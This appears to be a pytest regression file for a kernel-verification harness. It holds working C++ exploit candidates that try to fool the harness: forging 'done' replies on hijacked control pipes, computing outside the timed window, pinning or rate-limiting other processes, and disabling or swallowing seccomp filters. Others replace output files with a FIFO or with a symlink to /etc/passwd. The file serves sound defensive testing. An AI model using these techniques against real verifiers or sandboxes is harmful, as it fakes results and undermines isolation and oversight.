"""Issue #35: the harness never takes a job's word. Six classes of candidates, written by an attacker who
read the verifier's source, got verdicts they did not earn; each is a regression test here, seen passing
the verifier before its fix:

1. the candidate stops the clock itself (a thread answers ``done`` on the channel, the work runs after);
2. work done outside the clock (a thread of its own computes while the side waits for its call);
3. timed calls told apart from checked ones (an instance computes in place from its second call on);
4. one side slows another (pins the threads of every process it can name to one CPU);
5. one candidate breaks every later verdict (``prlimit`` on the fork server);
6. a wrong kernel passes correctness (a vector loop whose tail is an ``if``, right only when n % 16 is 0 or 1).
"""

from __future__ import annotations

import random

import pytest

import candidates as C
from candidates import WINDOW_PROBE

# ----------------------------------------------------------------------------- 6. tails


def test_second_shapes_put_every_size_on_a_drawn_remainder_that_varies():
    """The smaller and larger shapes' sizes are never 0 or 1 modulo 8 and differ modulo 8 from each other;
    over verifications their remainders modulo 16, 32 and 64 vary; the tiny shape's sizes are odd, below one
    vector width, and their product is neither 0 nor 1 modulo 16."""
    from verifier.task import VECTOR_WIDTH, second_shape_candidates

    source = "batch_size = 64\ndim = 4096\n"
    residues: dict[int, set[int]] = {16: set(), 32: set(), 64: set()}
    for seed in range(200):
        found = second_shape_candidates(source, {}, random.Random(seed))
        smaller, larger, tiny = found["smaller"][0], found["larger"][0], found["tiny"][0]
        for name in ("batch_size", "dim"):
            assert smaller[name] % 8 > 1 and larger[name] % 8 > 1, (seed, smaller, larger)
            assert smaller[name] % 8 != larger[name] % 8, (seed, smaller, larger)
            assert tiny[name] % 2 == 1 and 1 < tiny[name] < VECTOR_WIDTH, tiny
        assert tiny["batch_size"] * tiny["dim"] % 16 not in (0, 1), tiny
        assert 48 - 16 < smaller["batch_size"] <= 48 and 4096 < larger["dim"] <= 5120 + 64
        for m in residues:
            residues[m].add(larger["dim"] % m)
    assert all(len(r) >= m // 2 for m, r in residues.items()), residues    # not one fixed offset
    assert second_shape_candidates(source, {}) != second_shape_candidates(source, {})   # drawn afresh


def test_every_instance_is_called_more_than_once_in_an_unpredictable_order():
    from verifier.gates.correctness import LIVE_INSTANCES, call_schedule
    from verifier.inputs import shape_trial, trial_plan

    trials = [*trial_plan(5), shape_trial("smaller", {"n": 9}), shape_trial("tiny", {"n": 5})]
    trials[-2] = type(trials[-2])(**{**trials[-2].__dict__, "overrides": (("n", 9),)})
    trials[-1] = type(trials[-1])(**{**trials[-1].__dict__, "overrides": (("n", 5),)})
    orders = set()
    for seed in range(50):
        schedule = call_schedule(trials, random.Random(seed))
        orders.add(tuple(i for i, _ in schedule))
        assert sorted({i for i, _ in schedule}) == list(range(len(trials)))
        firsts = [i for n, (i, s) in enumerate(schedule) if s == 0]
        assert sorted(firsts) == list(range(len(trials)))                 # every trial once in full
        for n, (i, s) in enumerate(schedule):                             # its full call comes first
            assert (s == 0) == (i not in [j for j, _ in schedule[:n]])
        per_instance: dict = {}
        for n, (i, _) in enumerate(schedule):
            per_instance.setdefault(trials[i].instance, []).append(n)
        assert all(len(calls) >= 2 for calls in per_instance.values()), per_instance
        spans = [(calls[0], calls[-1]) for calls in per_instance.values()]
        assert max(sum(a <= n <= b for a, b in spans) for n in range(len(schedule))) <= LIVE_INSTANCES
    assert len(orders) > 40


# A 16-wide vector loop whose remainder is handled by an `if` (one element) instead of a loop: wrong whenever
# n % 16 is neither 0 nor 1. Both second shapes of the test suite's relu (64 x 4096) used to be 1 mod 16.
IF_TAIL = r'''
#include <cstdint>
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    int64_t i = 0;
    for (; i + 16 <= n; i += 16)
        #pragma omp simd
        for (int k = 0; k < 16; ++k) out[i + k] = x[i + k] > 0.f ? x[i + k] : 0.f;
    if (i < n) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
def test_a_vector_loop_with_an_if_for_its_tail_fails_correctness(verifier, suite, make_candidate):
    out = verifier.verify(suite.get("relu").spec(), make_candidate(C.elementwise(IF_TAIL)), fresh=True)
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    assert "second shape" in out.message, out.message


# ----------------------------------------------------------------------------- 3. repeated calls

# An instance's first call computes into a fresh output; every later call computes in place into its input
# and returns it (no output to allocate). Correctness called each instance once; the window never looked.
IN_PLACE_MODEL = '''
import torch
import torch.nn as nn
from verifier.runtime import load

lib = load()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, x):
        self.calls += 1
        if self.calls == 1:
            out = torch.empty_like(x)
            lib.relu_forward(x, out, x.numel())
            return out
        lib.relu_forward(x, x, x.numel())
        return x
'''


@pytest.mark.slow
def test_an_instance_that_computes_in_place_from_its_second_call_fails_correctness(verifier, suite,
                                                                                    make_candidate):
    out = verifier.verify(suite.get("relu").spec(), make_candidate({"model.py": IN_PLACE_MODEL, "kernel.cpp": C.RELU}),
                          fresh=True)
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    assert "the same instance's call" in out.message and "in place" in out.message, out.message


# ----------------------------------------------------------------------------- 1. the clock


@pytest.fixture(scope="module")
def unguarded(tmp_path_factory, fast_config):
    """Static rules off: each exploit below is refused by them (threads, load-time code, file and system
    calls); what is tested is what the sandbox and the harness do without them."""
    from verifier.harness.verify import Verifier

    v = Verifier("cpu", fast_config.model_copy(update={"antihack": False}),
                 cache_dir=tmp_path_factory.mktemp("trust-cache"))
    yield v
    v.close()


# Stops the clock itself: at load time (and at its first call) it finds the side's channel among its
# descriptors, keeps them (dup) and puts pipes under Python's (dup2); a thread then relays every line,
# answering a `go` at once with Python's last answer under the new nonce, and hands the `go` to Python
# 20 ms later, which computes after the clock stopped (its own answer to a forged call is dropped).
RELAY = r'''
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <unistd.h>
#include <pthread.h>
#include <atomic>
static int real_in = -1, real_out = -1, fake_in_w = -1, fake_out_r = -1;
static char forged[64][32];
static std::atomic<int> nforged{0};
static char rest[1 << 16];
static std::atomic<int> have_rest{0};
static long read_line(int fd, char* buf, long cap) {
    long n = 0;
    while (n + 1 < cap) { char c; if (read(fd, &c, 1) != 1) return -1; buf[n++] = c; if (c == '\n') break; }
    buf[n] = 0; return n;
}
static void put(int fd, const char* s, long n) { while (n > 0) { long w = write(fd, s, n); if (w <= 0) return; s += w; n -= w; } }
static void* relay_in(void*) {
    static char line[1 << 16], done[1 << 17];
    while (read_line(real_in, line, sizeof line) > 0) {
        if (!strncmp(line, "go ", 3) && have_rest.load()) {
            char nonce[32] = {0}; sscanf(line + 3, "%31s", nonce);
            strcpy(forged[nforged.load() % 64], nonce); nforged++;
            int k = snprintf(done, sizeof done, "done %s%s", nonce, rest);
            put(real_out, done, k);
            usleep(20000);
        }
        put(fake_in_w, line, strlen(line));
    }
    return nullptr;
}
static void* relay_out(void*) {
    static char line[1 << 16];
    while (read_line(fake_out_r, line, sizeof line) > 0) {
        bool drop = false;
        if (!strncmp(line, "done ", 5)) {
            const char* after = strchr(line + 5, ' ');
            if (after) { strncpy(rest, after, sizeof rest - 1); have_rest = 1; }
            for (int k = 0; k < nforged.load() && k < 64; ++k)
                if (!strncmp(line + 5, forged[k], strlen(forged[k]))) drop = true;
        }
        if (!drop) put(real_out, line, strlen(line));
    }
    return nullptr;
}
static void hijack() {
    if (real_in >= 0) return;
    int in_fd = -1, out_fd = -1;
    char path[64], target[512];
    for (int fd = 3; fd < 512; ++fd) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        long n = readlink(path, target, sizeof target - 1);
        if (n <= 0) continue;
        target[n] = 0;
        if (strstr(target, "ctl.in")) in_fd = fd;
        else if (strstr(target, "ctl.out")) out_fd = fd;
    }
    if (in_fd < 0 || out_fd < 0) return;
    int p1[2], p2[2];
    real_in = dup(in_fd); real_out = dup(out_fd);
    if (real_in < 0 || real_out < 0 || pipe(p1) || pipe(p2)) { real_in = -1; return; }
    dup2(p1[0], in_fd); fake_in_w = p1[1];
    dup2(p2[1], out_fd); fake_out_r = p2[0];
    pthread_t a, b;
    pthread_create(&a, nullptr, relay_in, nullptr);
    pthread_create(&b, nullptr, relay_out, nullptr);
}
__attribute__((constructor)) static void at_load() { hijack(); }
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    hijack();
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
def test_a_candidate_that_answers_done_before_its_work_is_refused(unguarded, suite, make_candidate):
    """Before: relu 6.3-8.0x where the honest kernel read 1.9-3.8x (builtin relu, scratch runs). After: the
    harness reads the outputs where the side says they lie, the side stopped, the moment `done` arrives."""
    with C.without_load_time_check():   # its relay starts at load time, refused by the link check since #48
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(RELAY)), fresh=True)
    assert not out.feasible, out.message
    if out.failed_gate == "performance":
        # Its forged `done` repeats the last real one, which names the last call's outputs: memory its allocator
        # has freed since. The harness spoils the outputs where a side says they lie (window.Side.spoil_outputs),
        # and writing there breaks the liar's own heap: it may crash in the window (seen once
        # after the merge of i35s), before the calls read so far are compared; refused either way.
        # Or its relay thread, held while the side settles (i35f), never hands the `settle` to Python: the side
        # does not answer it and is killed.
        assert "the candidate crashed" in out.message or "settling with its other threads held" in out.message, \
            out.message
        return
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)    # its trials passed: a window's
    assert "timed call" in out.message and "taken the moment it reported done" in out.message, out.message


# ----------------------------------------------------------------------------- 2. outside the clock

# How an exploit candidate tells a timing window from the correctness job: only a window's side has the channel's
# FIFOs ("ctl.") and the inputs file ("inputs.bin") among its descriptors (``candidates.WINDOW_PROBE``: C, with the
# headers it needs).

# A thread of the kernel's own watches the inputs of its last call, between calls: if it ever sees them
# half written (the first value new, the last one not yet) in the timing window, the next round's inputs
# were visible to it before its clock started (the side copied them in while it ran), and the kernel says so
# in its outputs. (A kernel that precomputed from them read 1.22-1.44 ms where the same loop inside its
# call read 1.88-2.65 ms: matmul 384, scratch runs.)
TORN = r'''
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <unistd.h>
#include <pthread.h>
#include <atomic>
#include <sched.h>
static std::atomic<int> busy{0}, torn{0}, started{0};
static const volatile float* watched = nullptr;
static int64_t count = 0;
static int in_window = -1;
static void* watch(void*) {
    float first = watched[0], last = watched[count - 1];
    for (;;) {
        if (!busy.load()) {
            float f = watched[0], l = watched[count - 1];
            if (f != first && l == last && !busy.load()) torn = 1;
            if (f != first && l != last) { first = f; last = l; }
        }
        sched_yield();
    }
    return nullptr;
}
''' + WINDOW_PROBE + r'''extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    busy = 1;
    if (in_window < 0) in_window = window_probe();
    if (in_window && !started.exchange(1) && n > 1) {
        watched = x; count = n;
        pthread_t t; pthread_create(&t, nullptr, watch, nullptr);
    }
    const float mark = torn.load() ? 1000.f : 0.f;
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = (x[i] > 0.f ? x[i] : 0.f) + mark;
    busy = 0;
}
'''


@pytest.mark.slow
def test_a_side_sees_its_inputs_only_once_its_clock_runs(unguarded, suite, make_candidate):
    """The harness writes an untrusted side's inputs while it is stopped and continues it only to time its
    call: a thread of the candidate's never sees them arrive (they used to be copied in by the side itself,
    while it ran, long before its clock started)."""
    seen: list[tuple[str, dict[str, str], bool]] = []

    def observe(event, what):
        if event == "timed":   # right before the clock starts: the flush done, every untrusted side stopped
            name, sides = what
            drawn = (sides["reference"].job_dir / "inputs.bin").read_bytes()[:64]
            states = {other: _stopped(side) for other, side in sides.items() if not side.trusted}
            ready = all(side.inputs is not None and bytes(side.inputs[:64]) == drawn
                        for side in sides.values() if not side.trusted)
            seen.append((name, states, ready))

    unguarded.window_observer = observe
    try:
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(TORN)), fresh=True)
    finally:
        unguarded.window_observer = None
    assert out.feasible, out.message          # its thread never saw the next round's inputs arrive
    assert seen and all(all(states.values()) and ready for _, states, ready in seen), seen


def _stopped(side) -> bool | None:
    import os

    pid = side.handle.host_pid() if hasattr(side.handle, "host_pid") else None
    if pid is None:
        return None
    return all(open(f"/proc/{pid}/task/{t}/stat").read().rsplit(")", 1)[1].split()[0] in "Tt"
               for t in os.listdir(f"/proc/{pid}/task"))


# ----------------------------------------------------------------------------- 4. one side slows another

# Pins every thread of every process it can name (pids 1 to 511, its own threads aside) to one CPU, at
# each of its first three calls in the timing window (a side's descriptors name its channel): the best's job, timed
# beside it, was among them.
PIN_OTHERS = r'''
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <sched.h>
#include <unistd.h>
#include <omp.h>
#include <sys/syscall.h>
static int calls = 0, in_window = -1;
''' + WINDOW_PROBE + r'''extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    if (in_window < 0) in_window = window_probe();
    if (in_window && ++calls <= 3) {
        long mine[256]; int k = 0;
        mine[k++] = syscall(SYS_gettid);
        #pragma omp parallel
        {
            long t = syscall(SYS_gettid);
            #pragma omp critical
            if (k < 256) mine[k++] = t;
        }
        cpu_set_t one; CPU_ZERO(&one); CPU_SET(0, &one);
        for (int pid = 1; pid < 512; ++pid) {
            bool own = pid == getpid();
            for (int i = 0; i < k; ++i) own |= mine[i] == pid;
            if (!own) sched_setaffinity(pid, sizeof one, &one);
        }
    }
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
def test_a_candidate_cannot_pin_the_best_or_the_fork_server(unguarded, suite, make_candidate):
    """Before: the same relu kernel measured "1.66x faster than the best [1.22, 2.50]" with the best's
    threads all pinned to CPU 0. Now each job has a PID namespace of its own: nothing else can be named."""
    affinities: dict[str, set] = {"best": set(), "server": set()}

    def observe(event, what):
        if event == "timed":
            _, sides = what
            best = sides["best"].handle.settings()
            if best is not None:
                affinities["best"] |= {cpus for *_, cpus in best.threads.values()}
            server = unguarded.server.host_pid()
            affinities["server"].add(_cpus(server))

    before = _cpus(unguarded.server.host_pid()) if unguarded.server.host_pid() else None
    unguarded.window_observer = observe
    try:
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(PIN_OTHERS)), fresh=True,
                               best=C.elementwise(C.RELU + "\n// the best\n"))
    finally:
        unguarded.window_observer = None
    assert out.feasible and out.best_ms is not None, out.message
    assert len(frozenset().union(*affinities["best"])) > 1, affinities   # the best's threads kept both CPUs
    assert before is None or affinities["server"] == {before}, affinities


def _cpus(pid: int) -> frozenset:
    from verifier.sandbox.procs import settings

    found = settings(pid)
    return frozenset().union(*(cpus for *_, cpus in found.threads.values())) if found else frozenset()


# Pins its own OpenMP threads to one CPU from its fifth call on: the harness sees a side's threads move.
PIN_SELF = r'''
#include <cstdint>
#include <sched.h>
#include <omp.h>
static int calls = 0;
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    if (++calls == 5) {
        #pragma omp parallel
        {
            cpu_set_t one; CPU_ZERO(&one); CPU_SET(omp_get_thread_num() == 0 ? 1 : 0, &one);
            sched_setaffinity(0, sizeof one, &one);
        }
    }
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
def test_a_side_whose_threads_move_between_calls_is_refused(unguarded, suite, make_candidate):
    out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(PIN_SELF)), fresh=True)
    assert out.failed_gate == "performance", (out.failed_gate, out.message)
    assert "had its scheduling or limits changed" in out.message and "moved from CPUs" in out.message, out.message


def test_a_settings_watch_sees_limits_priorities_and_cpus_change():
    from verifier.sandbox.procs import Settings, SettingsWatch

    start = Settings({10: (0, 0, 0, frozenset({0})), 11: (0, 0, 0, frozenset({1}))},
                     {"Max file size": ("unlimited", "unlimited")})
    watch = SettingsWatch(start)
    assert watch.changes(start) == []
    grown = Settings({**start.threads, 12: (0, 0, 0, frozenset({0, 1}))}, start.limits)   # a new thread, as its own
    assert watch.changes(grown) == []
    moved = Settings({10: (0, 0, 0, frozenset({0})), 11: (0, 0, 0, frozenset({0}))}, start.limits)
    assert any("moved from CPUs [1] to [0]" in c for c in watch.changes(moved))
    idle = Settings({10: (0, 5, 0, frozenset({0})), 11: (0, 0, 0, frozenset({1}))}, start.limits)
    assert any("SCHED_IDLE" in c for c in watch.changes(idle))
    nice = Settings({**start.threads, 13: (19, 0, 0, frozenset({0}))}, start.limits)
    assert any("a new thread at SCHED_OTHER nice 19" in c for c in watch.changes(nice))
    small = Settings(start.threads, {"Max file size": ("4096", "4096")})
    assert watch.changes(small) == ["Max file size unlimited/unlimited -> 4096/4096"]


# ----------------------------------------------------------------------------- 5. every later verdict

# Sets RLIMIT_FSIZE of every process it can name (pids 1 to 64, itself aside) to 4 KiB: the fork server is
# PID 1 of the sandbox's namespace, and every job it forked afterwards failed ("unexpected pos 1472 vs 1366").
PRLIMIT_OTHERS = r'''
#include <cstdint>
#include <sys/resource.h>
#include <unistd.h>
static int done_ = 0;
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    if (!done_) {
        done_ = 1;
        struct rlimit small = {4096, 4096};
        for (int pid = 1; pid < 64; ++pid) if (pid != getpid()) prlimit(pid, RLIMIT_FSIZE, &small, nullptr);
    }
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
def test_a_candidate_cannot_break_the_verdicts_that_follow(unguarded, suite, make_candidate):
    spec = suite.get("relu").spec()
    out = unguarded.verify(spec, make_candidate(C.elementwise(PRLIMIT_OTHERS)), fresh=True)
    assert out.feasible, out.message
    for k in range(2):
        after = unguarded.verify(spec, make_candidate(C.elementwise(C.RELU + f"\n// after {k}\n")), fresh=True)
        assert after.feasible, after.message


def test_a_change_to_the_fork_servers_limits_is_seen_and_the_server_restarted(tmp_path):
    """Whatever reaches the fork server (nothing should: each job has a PID namespace of its own), the harness
    reads its limits after every job: a change fails that job and takes the server down for a new one."""
    import os
    import resource

    from verifier.sandbox import scrubbed_env
    from verifier.sandbox.client import ForkServer, JobLimits

    (tmp_path / "limits_entry.py").write_text("def run(job_dir):\n    return 0\n")
    env = scrubbed_env(home=str(tmp_path))
    env["PYTHONPATH"] += os.pathsep + str(tmp_path)
    server = ForkServer(tmp_path, entry="limits_entry:run", env=env, preload=[], use_bwrap=False, hidden=[],
                        devices=[], confine=False)
    try:
        server.start()
        pid = server.host_pid()
        assert pid is not None
        limits = JobLimits(cpu_seconds=20, address_space_mb=None, file_size_mb=16)
        job = tmp_path / "a"
        job.mkdir()
        assert server.run(job, limits, 20).tampered == ""
        resource.prlimit(pid, resource.RLIMIT_FSIZE, (4096, 4096))
        job = tmp_path / "b"
        job.mkdir()
        ended = server.run(job, limits, 20)
        assert "limits changed" in ended.tampered and "4096" in ended.tampered, ended
        job = tmp_path / "c"
        job.mkdir()
        assert server.run(job, limits, 20).tampered == ""          # a new server, with its own limits
        assert server.host_pid() != pid
    finally:
        server.close()


# ----------------------------------------------------------------------------- the candidate's phase

# Tries, in its calls, what the candidate's phase refuses: open a file (its own model.py), duplicate a
# descriptor, make a pipe and a socket, and lock its stderr (flock: on no list, refused by the allow-list
# alone). Each that works adds its own mark to every output (so the verdict says which); where all are
# refused it computes ReLU.
PHASE_PROBE = r'''
#include <cstdint>
#include <fcntl.h>
#include <unistd.h>
#include <sys/file.h>
#include <sys/socket.h>
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    float mark = 0.f;
    if (flock(2, LOCK_SH | LOCK_NB) == 0) { mark += 10000.f; flock(2, LOCK_UN); }
    int fd = open("model.py", O_RDONLY);
    if (fd >= 0) { mark += 1000.f; close(fd); }
    int copy = dup(2);
    if (copy >= 0) { mark += 100.f; close(copy); }
    int p[2];
    if (pipe(p) == 0) { mark += 10.f; close(p[0]); close(p[1]); }
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s >= 0) { mark += 1.f; close(s); }
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = (x[i] > 0.f ? x[i] : 0.f) + mark;
}
'''

OPENS_IN_FORWARD = '''
import torch
import torch.nn as nn
from verifier.runtime import load

lib = load()


class ModelNew(nn.Module):
    def forward(self, x):
        out = torch.empty_like(x)
        lib.relu_forward(x, out, x.numel())
        try:
            open("model.py").close()
            return out.fill_(1000.0)
        except OSError:
            return out
'''


@pytest.mark.slow
@pytest.mark.parametrize("files", [C.elementwise(PHASE_PROBE), {"model.py": OPENS_IN_FORWARD, "kernel.cpp": C.RELU}],
                         ids=["kernel", "model.py"])
def test_once_set_up_a_candidate_job_opens_no_file_and_makes_no_descriptor(unguarded, suite, make_candidate, files):
    out = unguarded.verify(suite.get("relu").spec(), make_candidate(files), fresh=True)
    assert out.feasible, out.message


# Tries, in its calls, to make what outlives a job or reaches another of the same sandbox (#35): a SysV shared
# memory segment, semaphore set and message queue, and a POSIX message queue. Each that works adds its mark to
# every output (removed again at once); where all are refused (no runtime need allows them) it computes ReLU.
IPC_PROBE = r'''
#include <cstdint>
#include <fcntl.h>
#include <unistd.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/sem.h>
#include <sys/msg.h>
#include <sys/syscall.h>
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    float mark = 0.f;
    int shm = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
    if (shm >= 0) { mark += 1000.f; shmctl(shm, IPC_RMID, nullptr); }
    int sem = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
    if (sem >= 0) { mark += 100.f; semctl(sem, 0, IPC_RMID); }
    int msg = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
    if (msg >= 0) { mark += 10.f; msgctl(msg, IPC_RMID, nullptr); }
    long mq = syscall(SYS_mq_open, "evokernel-probe", O_CREAT | O_RDWR, 0600, nullptr);
    if (mq >= 0) { mark += 1.f; close((int)mq); syscall(SYS_mq_unlink, "evokernel-probe"); }
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = (x[i] > 0.f ? x[i] : 0.f) + mark;
}
'''


@pytest.mark.slow
def test_a_candidate_makes_no_sysv_ipc_object_nor_message_queue(unguarded, suite, make_candidate):
    out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(IPC_PROBE)), fresh=True)
    assert out.feasible, out.message


def test_no_runtime_need_allows_ipc_objects():
    from verifier.sandbox.seccomp import CPU_NEEDS, RuntimeNeeds, candidate_allow

    every = RuntimeNeeds(threads=True, signal_timers=True, device_ioctls=True)
    for needs in (CPU_NEEDS, every):
        allowed = set(candidate_allow(needs))
        assert not allowed & {"shmget", "shmat", "semget", "semop", "msgget", "msgsnd", "mq_open", "ipc"}


# Red team (#35, second pass): makes itself the owner of a descriptor's signals, at load time (a constructor,
# under the job's filter) and in its calls (the candidate phase), by fcntl (F_SETOWN, F_SETOWN_EX, F_SETSIG)
# and ioctl (FIOSETOWN). Owned, a descriptor signals any process the job can name (where jobs share a PID
# namespace, the fork server: SIGKILL with F_SETSIG) each time the harness writes to it. Each that works marks
# every output.
SIGNAL_OWNER = r'''
#include <cstdint>
#include <fcntl.h>
#include <unistd.h>
#include <sys/ioctl.h>
static float at_load = 0.f;
static float own(void) {
    float mark = 0.f;
    if (fcntl(2, F_SETOWN, getpid()) == 0) mark += 1000.f;
    struct f_owner_ex ex = {F_OWNER_PID, getpid()};
    if (fcntl(2, F_SETOWN_EX, &ex) == 0) mark += 100.f;
    if (fcntl(2, F_SETSIG, 0) == 0) mark += 10.f;
    int me = getpid();
    if (ioctl(2, 0x8901 /* FIOSETOWN */, &me) == 0) mark += 1.f;
    return mark;
}
__attribute__((constructor)) static void early(void) { at_load = own(); }
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    float mark = at_load + own();
    #pragma omp parallel for simd schedule(static)
    for (int64_t i = 0; i < n; ++i) out[i] = (x[i] > 0.f ? x[i] : 0.f) + mark;
}
'''


@pytest.mark.slow
def test_a_candidate_cannot_own_a_descriptors_signals(unguarded, suite, make_candidate):
    with C.without_load_time_check():   # its constructor, refused by the link check since #48
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(SIGNAL_OWNER)), fresh=True)
    assert out.feasible, out.message


# Red team (issue #35's own pass): at load time, a thread that installs a seccomp filter of its own. The
# candidate phase's filter is installed on every thread at once (TSYNC), which a thread with a diverging
# filter makes fail: the job then goes on without it, had the job not refused to run the candidate.
DIVERGING_FILTER = r'''
#include <cstdint>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <pthread.h>
#include <unistd.h>
#include <fcntl.h>
static void* diverge(void*) {
    struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog prog = {1, allow};
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog);
    for (;;) pause();
    return nullptr;
}
__attribute__((constructor)) static void at_load() {
    pthread_t t;
    pthread_create(&t, nullptr, diverge, nullptr);
    usleep(20000);
}
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    int fd = open("model.py", O_RDONLY);        // what the candidate's phase refuses, had it been installed
    if (fd >= 0) close(fd);
    for (int64_t i = 0; i < n; ++i) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
def test_a_library_that_keeps_the_candidate_phase_off_is_refused(unguarded, suite, make_candidate):
    with C.without_load_time_check():   # its constructor, refused by the link check since #48
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(DIVERGING_FILTER)), fresh=True)
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    assert "could not narrow the job's filter" in out.message, out.message


# Red team: at load time (in a timing window's side only, so its trials pass), the side's own files replaced:
# its outputs by a FIFO and its stderr by a symlink to a host file, and the side then dies in a timed call.
# Its job writes through descriptors it opened before (verifier.job.candidate.JobFiles), so the names stay as the
# candidate left them: the harness must read back plain files only, else it blocks on the FIFO for ever or
# quotes the host file in the verdict as the job's stderr.
REPLACES_ITS_FILES = r'''
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <sys/stat.h>
#include <unistd.h>
static bool side = false, replaced = false;
static void replace() {
    if (replaced) return;
    char path[64], target[512];
    for (int fd = 3; fd < 512; ++fd) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        long n = readlink(path, target, sizeof target - 1);
        if (n > 0) { target[n] = 0; side |= strstr(target, "ctl.") != nullptr; }
    }
    if (!side) return;
    replaced = true;
    unlink("outputs.pt");
    mkfifo("outputs.pt", 0600);
    unlink("stderr.txt");
    symlink("/etc/passwd", "stderr.txt");
}
__attribute__((constructor)) static void at_load() { replace(); }
static int calls = 0;
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    replace();     // at its first call, where nothing narrower than the job's filter runs
    if (side && ++calls == 4 && getenv("EVOKERNEL_DIE")) abort();
    for (int64_t i = 0; i < n; ++i) out[i] = x[i] > 0.f ? x[i] : 0.f;
}
'''


@pytest.mark.slow
@pytest.mark.timeout(240)
@pytest.mark.parametrize("dies", [False, True], ids=["finishes", "dies"])
def test_a_side_that_replaces_its_files_is_refused_not_waited_for_nor_quoted(unguarded, suite, make_candidate, dies):
    kernel = REPLACES_ITS_FILES.replace('getenv("EVOKERNEL_DIE")', "true" if dies else "false")
    with C.without_load_time_check():   # its constructor, refused by the link check since #48
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(kernel)), fresh=True)
    assert out.gate("correctness").status == "passed", out.message
    assert out.failed_gate == "performance", (out.failed_gate, out.message)
    assert ":x:" not in out.message and "nologin" not in out.message, out.message   # /etc/passwd's lines


# Red team: at load time, a filter of its own on every thread (TSYNC, so the job's own TSYNC does not fail)
# that answers the `seccomp` call itself with success and does nothing: the job's narrower filter for the
# candidate's phase is then never installed, though its installation "succeeds". Its calls then open a file
# (its own model.py), which the candidate's phase refuses, and say so in their outputs.
SWALLOWS_THE_FILTER = r'''
#include <cstddef>
#include <cstdint>
#include <fcntl.h>
#include <unistd.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/syscall.h>
__attribute__((constructor)) static void at_load() {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_seccomp, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {4, f};
    syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &prog);
}
extern "C" void relu_forward(const float* x, float* out, int64_t n) {
    float mark = 0.f;
    int fd = open("model.py", O_RDONLY);
    if (fd >= 0) { mark = 1000.f; close(fd); }
    for (int64_t i = 0; i < n; ++i) out[i] = (x[i] > 0.f ? x[i] : 0.f) + mark;
}
'''


@pytest.mark.slow
def test_a_library_that_swallows_the_candidate_phase_is_refused(unguarded, suite, make_candidate):
    """Before: "correctness: ... 1024 of 1024 values differ ... got 1000" (the phase was off: its open worked).
    After: the job stops at its phase and the harness counts every thread's filters from ``/proc`` (#48; the job
    counted its own before), refusing it when the two the phase installs are not both there. Its constructor is
    refused by the link check since #48: this is what holds were it past it."""
    with C.without_load_time_check():   # its constructor, refused by the link check since #48
        out = unguarded.verify(suite.get("relu").spec(), make_candidate(C.elementwise(SWALLOWS_THE_FILTER)),
                               fresh=True)
